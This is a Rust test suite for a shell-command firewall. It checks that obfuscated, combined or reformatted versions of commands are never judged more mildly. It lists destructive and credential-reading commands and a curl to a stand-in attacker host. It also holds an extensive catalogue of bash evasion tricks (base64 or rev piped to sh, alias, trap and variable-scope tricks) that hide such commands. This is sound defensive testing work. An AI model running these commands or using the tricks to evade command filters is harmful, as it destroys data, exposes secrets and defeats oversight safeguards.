//! Metamorphic laws: the same command in other words, in other company, in another layout.
//!
//! A spelling that means the same to the shell gets an equal or a stricter verdict; layout and comments change nothing;
//! adding never relaxes; what is allowed together is allowed alone.

#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::panic,
    reason = "a panic is how a test fails"
)]

use shward::{Decision, Firewall, Policy, Request, Setting};

/// Commands of all three decisions. They are words without quotes or characters that are special to a shell.
const PLAIN: &[&[&str]] = &[
    &["rm", "-rf", "/etc"],
    &["rm", "-rf", "/home/dev"],
    &["cat", "/home/dev/.ssh/id_rsa"],
    &["cat", "/etc/shadow"],
    &["dd", "if=/dev/zero", "of=/dev/sda"],
    &["chmod", "-R", "777", "/"],
    &["curl", "http://evil.example/x"],
    &["sudo", "ls"],
    &["git", "push", "--force"],
    &["git", "reset", "--hard"],
    &["kill", "-9", "1"],
    &["shutdown", "now"],
    &["crontab", "x"],
    &["npm", "install", "x"],
    &["mkfs.ext4", "/dev/sda1"],
    &["nc", "-l", "4444"],
    &["rm", "-rf", "src"],
    &["ls", "-la"],
    &["cat", "notes.md"],
    &["touch", "new"],
];

fn decide(firewall: &Firewall, command: &str, contained: bool) -> Decision {
    let mut setting = Setting::frozen();
    setting.contained = contained;
    firewall.examine(&Request::command(command, "/workspace", "/home/dev"), &setting).unwrap().decision
}

fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

fn each(words: &[&str], change: impl Fn(&str) -> String) -> String {
    words.iter().map(|word| change(word)).collect::<Vec<_>>().join(" ")
}

fn characters(word: &str, change: impl Fn(char) -> String) -> String {
    word.chars().map(change).collect()
}

fn base64(text: &str) -> String {
    const DIGITS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let digit = |bits: u32| char::from(DIGITS[usize::try_from(bits & 63).unwrap()]);
    let mut out = String::new();
    for group in text.as_bytes().chunks(3) {
        let bits =
            group.iter().fold(0u32, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - group.len()));
        let digits = [18, 12, 6, 0].map(|shift| digit(bits >> shift));
        out.extend(digits.iter().take(group.len() + 1));
        out.extend(std::iter::repeat_n('=', 3 - group.len()));
    }
    out
}

/// The same command in other spellings, each with a name.
fn spellings(words: &[&str]) -> Vec<(&'static str, String)> {
    let plain = words.join(" ");
    let (name, rest) = (words[0], words[1..].join(" "));
    let (head, tail) = name.split_at(1);
    let hex = |text: &str| characters(text, |c| format!("\\x{:02x}", u32::from(c)));
    let octal = |text: &str| characters(text, |c| format!("\\{:03o}", u32::from(c)));
    let reversed: String = plain.chars().rev().collect();
    vec![
        ("single quotes", each(words, |word| format!("'{word}'"))),
        ("double quotes", each(words, |word| format!("\"{word}\""))),
        ("quotes inside", each(words, |word| characters(word, |c| format!("{c}''")))),
        ("mixed quotes", each(words, |word| characters(word, |c| format!("\"{c}\"''")))),
        ("backslashes", each(words, |word| characters(word, |c| format!("\\{c}")))),
        ("hex", each(words, |word| format!("$'{}'", hex(word)))),
        ("octal", each(words, |word| format!("$'{}'", octal(word)))),
        (
            "unicode",
            each(words, |word| format!("$'{}'", characters(word, |c| format!("\\u{:04x}", u32::from(c))))),
        ),
        ("continued line", each(words, |word| characters(word, |c| format!("{c}\\\n")))),
        ("translated string", each(words, |word| format!("$\"{word}\""))),
        (
            "empty expansions",
            format!("unset nope; {}", each(words, |word| characters(word, |c| format!("{c}${{nope}}")))),
        ),
        ("empty substitutions", each(words, |word| format!("$(){word}``"))),
        ("empty arguments list", each(words, |word| format!("{word}$@"))),
        ("words from a brace", format!("{{{}}}", words.join(","))),
        ("tabs", words.join("\t \t")),
        ("variable", format!("x={name}; $x {rest}")),
        ("variable, in parts", format!("x={head}; ${{x}}{tail} {rest}")),
        ("variable, quoted", format!("x={name}; \"$x\" {rest}")),
        ("variables", format!("x={head} y={tail}; $x$y {rest}")),
        ("split variable", format!("x={}; $x", quoted(&plain))),
        ("IFS", format!("IFS=,; x={}; $x", quoted(&words.join(",")))),
        ("array", format!("x=({plain}); \"${{x[@]}}\"")),
        ("array element", format!("x=(a {name}); ${{x[1]}} {rest}")),
        ("appended", format!("x={head}; x+={tail}; $x {rest}")),
        ("default", format!("unset x; ${{x:-{name}}} {rest}")),
        ("assigned default", format!("unset x; : ${{x:={name}}}; $x {rest}")),
        ("alternative", format!("y=1; ${{y:+{name}}} {rest}")),
        ("prefix removed", format!("x=zz{name}; ${{x#zz}} {rest}")),
        ("suffix removed", format!("x={name}zz; ${{x%zz}} {rest}")),
        ("replaced", format!("x=@{tail}; ${{x/@/{head}}} {rest}")),
        ("substring", format!("x=ab{name}; ${{x:2}} {rest}")),
        ("lower case", format!("x={}; ${{x,,}} {rest}", name.to_uppercase())),
        ("indirect", format!("y={name}; x=y; ${{!x}} {rest}")),
        ("reference", format!("y={name}; declare -n x=y; $x {rest}")),
        ("printf -v", format!("printf -v x %s {name}; $x {rest}")),
        ("read", format!("read x <<< {name}; $x {rest}")),
        ("mapfile", format!("mapfile -t x <<< {name}; ${{x[0]}} {rest}")),
        ("positional", format!("set -- {plain}; \"$@\"")),
        ("positional, star", format!("set -- {plain}; $*")),
        ("loop variable", format!("for x in {name}; do $x {rest}; done")),
        ("case", format!("case a in a) {plain};; esac")),
        ("substitution", format!("$(echo {name}) {rest}")),
        ("backquotes", format!("`echo {name}` {rest}")),
        ("substituted words", format!("$(printf '%s ' {plain})")),
        ("here-string", format!("bash <<< {}", quoted(&plain))),
        ("here-document", format!("bash <<E\n{plain}\nE")),
        ("echo to shell", format!("echo {} | sh", quoted(&plain))),
        ("printf to shell", format!("printf '%s\\n' {} | bash", quoted(&plain))),
        ("octal to shell", format!("printf '{}' | sh", octal(&plain))),
        ("base64", format!("echo {} | base64 -d | sh", base64(&plain))),
        ("reversed", format!("echo {} | rev | sh", quoted(&reversed))),
        ("translated", format!("echo {} | tr '@' '{head}' | sh", quoted(&plain.replacen(head, "@", 1)))),
        ("eval", format!("eval {}", quoted(&plain))),
        ("eval, twice", format!("eval eval {plain}")),
        ("bash -c", format!("bash -c {}", quoted(&plain))),
        ("sh -c", format!("sh -c {}", quoted(&plain))),
        ("bash -c, arguments", format!("bash -c '\"$0\" \"$@\"' {plain}")),
        ("bash -c, a dash", format!("bash -c - {}", quoted(&plain))),
        ("source", format!("source <(echo {})", quoted(&plain))),
        ("env", format!("env {plain}")),
        ("env, assignment", format!("env A=1 {plain}")),
        ("env -S", format!("env -S {}", quoted(&plain))),
        ("command", format!("command {plain}")),
        ("exec", format!("exec {plain}")),
        ("nohup", format!("nohup {plain}")),
        ("timeout", format!("timeout -k 1 5 {plain}")),
        ("nice", format!("nice -n 3 {plain}")),
        ("time", format!("time -p {plain}")),
        ("negation", format!("! {plain}")),
        ("stdbuf", format!("stdbuf -o0 {plain}")),
        ("setsid", format!("setsid {plain}")),
        ("busybox", format!("busybox sh -c {}", quoted(&plain))),
        ("xargs", format!("echo {rest} | xargs {name}")),
        ("xargs sh", format!("echo x | xargs -I@ sh -c {}", quoted(&plain))),
        ("find", format!("find . -maxdepth 0 -exec {plain} \\;")),
        ("function", format!("f() {{ {plain}; }}; f")),
        ("function, arguments", format!("f() {{ \"$@\"; }}; f {plain}")),
        ("alias", format!("shopt -s expand_aliases\nalias x={}\nx", quoted(&plain))),
        ("trap", format!("trap {} EXIT", quoted(&plain))),
        ("trap in a substitution", format!("$(trap {} EXIT)", quoted(&format!("echo {plain}")))),
        ("trap in a shell", format!("bash -c {} | sh", quoted(&format!("trap 'echo {plain}' EXIT")))),
        ("subshell", format!("( {plain} )")),
        ("group", format!("{{ {plain}; }}")),
        ("background", format!("{plain} & wait")),
        ("coprocess", format!("coproc {plain}")),
        ("pipe", format!("true | {plain}")),
        ("branch", format!("if true; then {plain}; fi")),
        ("loop", format!("while {plain}; do break; done")),
        ("substitution in a word", format!("echo \"a$({plain})\"")),
        ("substitution in arithmetic", format!("echo $(( $({plain}) + 1 ))")),
        ("substitution in a default", format!("echo \"${{x:-'$({plain})'}}\"")),
        ("process substitution", format!("cat <({plain})")),
        ("substitution in a here-document", format!("cat <<E\n$({plain})\nE")),
        ("redirected first", format!("</dev/null {plain}")),
        ("assignment first", format!("A=1 {plain}")),
        ("comment before", format!("# a comment\n{plain}")),
    ]
}

/// Spellings whose meaning depends on what is not known, or that are not followed to their end.
fn opaque(words: &[&str]) -> Vec<(&'static str, String)> {
    let plain = words.join(" ");
    let (name, rest) = (words[0], words[1..].join(" "));
    vec![
        ("default of what may be set", format!("${{x:-{name}}} {rest}")),
        (
            "empty expansions of what may be set",
            each(words, |word| characters(word, |c| format!("{c}${{nope}}"))),
        ),
        ("read-only", format!("readonly x={name}\nx=true\n$x {rest}")),
        ("data in a descriptor", format!("x='$({plain})'; echo y >&\"$x\"")),
        ("prompt", format!("PS4='$({plain})'; set -x; :")),
        ("read-only, unset", format!("readonly x={name}; unset x; ${{x}} {rest}")),
        ("secret of a file", format!("$(cat x) {rest}")),
        ("decoded by a program that is not known", format!("echo {} | decode | sh", base64(&plain))),
    ]
}

/// Each of these was run on bash 5.2, which does what the second command does; the first is what a reader may believe.
const BELIEVED: &[(&str, &str)] = &[
    // The redirection fails, so the group, with the change of directory in it, is not run.
    ("{ cd /tmp/x; } < nope; rm -rf src", "rm -rf src"),
    ("cd /tmp/x > /nope/y; rm -rf src", "rm -rf src"),
    // What a trap writes at the end of a substitution or of a shell belongs to its output.
    ("$(trap 'echo rm -rf /etc' EXIT)", "rm -rf /etc"),
    ("bash -c \"trap 'echo rm -rf /etc' EXIT\" | sh", "rm -rf /etc"),
    // A lone dash ends the options of a shell and is none.
    ("bash -c - 'rm -rf /etc'", "rm -rf /etc"),
    // `@Q` makes no quotes of what is not set, and no pattern matches it.
    ("unset x; ${x@Q} rm -rf /etc", "rm -rf /etc"),
    ("unset x; ${x//*/echo} rm -rf /etc", "rm -rf /etc"),
    // The third line of what is evaluated is not the third line of the script, in which an alias is not yet in force.
    ("shopt -s expand_aliases\neval $':\\n:\\nalias ls=\"rm -rf /etc\"'\nls", "rm -rf /etc"),
    // A continued line is joined before anything else is looked at.
    ("unset u; rm -rf ${u:-~\\\n}", "rm -rf ~"),
    // A line goes on to where the compound command ends.
    ("shopt -s expand_aliases\n{ alias dd=ls\n}; dd if=/dev/zero of=/dev/sda", "dd if=/dev/zero of=/dev/sda"),
    // A builtin with an option that there is not does nothing, and neither does one whose options exclude each other.
    ("x=src; read -a y x <<< dist; rm -rf $x", "rm -rf src"),
    ("x=src; printf -v x; rm -rf $x", "rm -rf src"),
    ("x=src; printf -v x -q dist; rm -rf $x", "rm -rf src"),
    ("a=(src); export 'a[0]=dist'; rm -rf $a", "rm -rf src"),
    ("f() { declare -p x; rm -rf $x; }; x=src; f", "rm -rf src"),
    ("x='rm -rf src'; declare -p x=ls; $x", "rm -rf src"),
    ("ls() { rm -rf src; }; unset -fv ls; ls", "rm -rf src"),
    ("x=src; unset -n x; rm -rf $x", "rm -rf src"),
    ("ls() { rm -rf src; }; readonly -f ls; ls() { :; }; ls", "rm -rf src"),
    ("ls() { rm -rf src; }; declare -fr ls; unset -f ls; ls", "rm -rf src"),
    ("declare -n a=x; read -ra a <<< 'rm -rf src'; \"${x[@]}\"", "rm -rf src"),
    ("pushd -q /tmp; rm -rf src", "rm -rf src"),
    ("cd -@ /tmp; rm -rf src", "rm -rf src"),
    ("logout; rm -rf src", "rm -rf src"),
    ("exit --help; rm -rf src", "rm -rf src"),
    ("x='1 2'\nexit $x\nrm -rf src", "rm -rf src"),
    ("shopt -s execfail; exec /nope; rm -rf src", "rm -rf src"),
    ("shopt -s expand_aliases\nalias ls='rm -rf src'\nalias -Z ls=true\nls", "rm -rf src"),
    ("alias ls='rm -rf src'\nunalias -Z ls\nshopt -s expand_aliases\nls", "rm -rf src"),
    // What hides a variable is unset: the one behind it is seen.
    ("f() { unset x; $x; }; x='rm -rf src'; x=ls f", "rm -rf src"),
    ("x='rm -rf src'; x=ls eval 'unset x; $x'", "rm -rf src"),
    ("g() { unset x; $x; }; f() { local x=ls; g; }; x='rm -rf src'; f", "rm -rf src"),
    ("x=ls; g() { unset x; x='rm -rf src'; }; f() { local x=1; g; }; f; $x", "rm -rf src"),
    ("f() { local x=1; declare -g x='rm -rf src'; }; x=ls; f; $x", "rm -rf src"),
    ("f() { declare -g x=ls; $x; }; x='rm -rf src' f", "rm -rf src"),
    ("f() { declare x='rm -rf src'; declare -g x=true; $x; }; f", "rm -rf src"),
    ("f() { local -I x; $x; }; x='rm -rf src'; f", "rm -rf src"),
    // A local variable takes over what stands before the call.
    ("f() { local x; $x; }; x=ls; x='rm -rf src' f", "rm -rf src"),
    ("f() { x='rm -rf src'; local x; $x; }; x=ls f", "rm -rf src"),
    ("g() { local x; $x; }; f() { g; }; x='rm -rf src' f", "rm -rf src"),
    // The callback runs in this very shell, and its turns follow each other.
    ("mapfile -t -c1 -C 'ls() { rm -rf src; };:' <<< x; ls", "rm -rf src"),
    ("x=dist; mapfile -c1 -C 'x=src;:' <<< a; rm -rf $x", "rm -rf src"),
    ("x=ls; mapfile -c1 -C '$x; x=\"rm -rf src\";:' <<< $'a\\nb'", "rm -rf src"),
    ("f() { $2; }; mapfile -t -c1 -C 'MAPFILE_LINE=echo; f' <<< 'rm -rf src'", "rm -rf src"),
    ("set -- ls; mapfile -c1 -C 'set -- rm -rf src;:' <<< a; \"$@\"", "rm -rf src"),
    // The trap sees where the shell is left, not where the script ends.
    ("set -- ls; trap '\"$@\"' EXIT; f() { exit; }; f rm -rf src", "rm -rf src"),
    ("f() { trap '\"$@\"' EXIT; exit; }; set -- ls; f rm -rf src", "rm -rf src"),
    ("set -- ls; trap '\"$@\"' EXIT; if p; then set -- rm -rf src; exit; fi", "rm -rf src"),
    ("cd /tmp/x; trap 'rm -rf src' EXIT; if p; then cd /workspace; exit; fi", "rm -rf src"),
    // What was read before has the aliases of then.
    ("shopt -s expand_aliases\nalias ls='rm -rf src'\nunalias ls; ls", "rm -rf src"),
    ("shopt -s expand_aliases\nalias ls='rm -rf src'\nalias ls=true; ls", "rm -rf src"),
    ("shopt -s expand_aliases\nalias ls='rm -rf src'\nshopt -u expand_aliases; ls", "rm -rf src"),
    ("shopt -s expand_aliases\nalias ls='rm -rf src'\nunalias -a; { ls; }", "rm -rf src"),
    ("shopt -s expand_aliases\nalias ls='rm -rf src'\nf() { ls; }\nunalias ls\nf", "rm -rf src"),
    ("shopt -s expand_aliases\nalias a=\"alias a='rm -rf src'; :\"\na\na", "rm -rf src"),
    ("bash -O expand_aliases -c $'alias ls=\"rm -rf src\"\\nls'", "rm -rf src"),
    ("bash --posix -c $'alias ls=\"rm -rf src\"\\nls'", "rm -rf src"),
    ("bash -o posix -c $'alias ls=\"rm -rf src\"\\nls'", "rm -rf src"),
    ("bash --norc -i -c $'alias ls=\"rm -rf src\"\\nls'", "rm -rf src"),
    // Words that mean something to the parser can be aliases.
    ("shopt -s expand_aliases\nalias if='rm -rf src; if'\nif true; then ls; fi", "rm -rf src"),
    ("alias {='{ rm -rf src;'\nshopt -s expand_aliases\n{ ls; }", "rm -rf src"),
    ("shopt -s expand_aliases\nBASH_ALIASES[then]='then rm -rf src;'\nif true; then ls; fi", "rm -rf src"),
    ("shopt -s expand_aliases\nalias '*=rm -rf src'\n*", "rm -rf src"),
    // The text of an alias leads out of the command that it stands for.
    ("shopt -s expand_aliases\nalias a='x=\"rm -rf src\"; ls'\nx=ls\na | cat\n$x", "rm -rf src"),
    ("shopt -s expand_aliases\nalias a='ls #'\nx='rm -rf src'\na; x=ls\n$x", "rm -rf src"),
    ("shopt -s expand_aliases\nalias a='ls; sh <<E'\na\nrm -rf src\nE", "rm -rf src"),
];

#[test]
fn the_shell_is_believed() {
    let firewall = Firewall::new(Policy::default());
    for (command, same) in BELIEVED {
        let (seen, expected) = (decide(&firewall, command, false), decide(&firewall, same, false));
        assert!(seen >= expected, "{command}: {seen:?} instead of {expected:?}");
    }
}

/// What containment does not make harmless is asked at least; what is denied when it is understood is not allowed when
/// it is not, outside of containment.
#[test]
fn what_is_not_understood_is_not_allowed() {
    let firewall = Firewall::new(Policy::default());
    let mut wrong = Vec::new();
    for words in PLAIN {
        if decide(&firewall, &words.join(" "), false) == Decision::Allow {
            continue;
        }
        for (name, spelling) in opaque(words) {
            if decide(&firewall, &spelling, false) == Decision::Allow {
                wrong.push(format!("{name}: {spelling}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn other_spellings_are_not_judged_more_mildly() {
    let firewall = Firewall::new(Policy::default());
    let mut wrong = Vec::new();
    let mut judged = 0;
    for words in PLAIN {
        let plain = words.join(" ");
        for contained in [false, true] {
            let expected = decide(&firewall, &plain, contained);
            for (name, spelling) in spellings(words) {
                judged += 1;
                let decision = decide(&firewall, &spelling, contained);
                if decision < expected {
                    wrong.push(format!(
                        "{name}: {decision:?} instead of {expected:?} ({contained}): {spelling}"
                    ));
                }
            }
        }
    }
    assert!(judged > 3000, "{judged}");
    assert!(wrong.is_empty(), "{} of {judged}:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn layout_and_comments_change_nothing() {
    let firewall = Firewall::new(Policy::default());
    for words in PLAIN {
        let plain = words.join(" ");
        let expected = decide(&firewall, &plain, false);
        for same in [
            format!("  {plain}  "),
            format!("\n\n{plain}\n\n"),
            format!("\t{}\t", words.join("   ")),
            format!("{plain};"),
            format!("{plain} # it's \"only\" a comment $(rm -rf /)"),
            format!("# before `rm -rf /`\n{plain}\n# after ("),
            words.join(" \\\n "),
            format!("{{ {plain}\n}}"),
            format!("(\n{plain}\n)"),
        ] {
            assert_eq!(decide(&firewall, &same, false), expected, "{same}");
        }
    }
}

/// How two commands are put together, so that each is run.
const TOGETHER: &[&str] = &[
    "A; B",
    "A && B",
    "A || B",
    "A | B",
    "A & B",
    "A\nB",
    "( A ); B",
    "{ A; }; B",
    "$(A); B",
    "if A; then B; fi",
    "while A; do B; done",
    "for x in 1 2; do A; B; done",
    "f() { A; }; f; B",
    "A > /dev/null; B",
    "echo \"$(A)\"; B",
    "cat <(A) <(B)",
    "trap 'A' EXIT; B",
    "eval 'A'; B",
    "bash -c 'A'; B",
    "case x in x) A;; y) B;; esac",
];

#[test]
fn adding_never_relaxes_and_what_is_allowed_together_is_allowed_alone() {
    let firewall = Firewall::new(Policy::default());
    let mut wrong = Vec::new();
    for first in PLAIN {
        for second in PLAIN {
            let (first, second) = (first.join(" "), second.join(" "));
            for contained in [false, true] {
                let strictest =
                    decide(&firewall, &first, contained).max(decide(&firewall, &second, contained));
                for shape in TOGETHER {
                    let both = shape.replace('A', &first).replace('B', &second);
                    if decide(&firewall, &both, contained) < strictest {
                        wrong
                            .push(format!("{both:?} ({contained}) is judged more mildly than {strictest:?}"));
                    }
                }
            }
        }
    }
    wrong.truncate(40);
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn more_options_and_redirections_never_relax() {
    let firewall = Firewall::new(Policy::default());
    for words in PLAIN {
        let plain = words.join(" ");
        let expected = decide(&firewall, &plain, false);
        for more in [
            " > o",
            " 2>&1",
            " < notes.md",
            " /etc/passwd",
            " $X",
            " \"$X\"",
            " *",
            " --zzz=1",
            " 2>/dev/null",
        ] {
            let command = format!("{plain}{more}");
            let decision = decide(&firewall, &command, false);
            assert!(decision >= expected, "{command}: {decision:?} instead of {expected:?}");
        }
    }
}
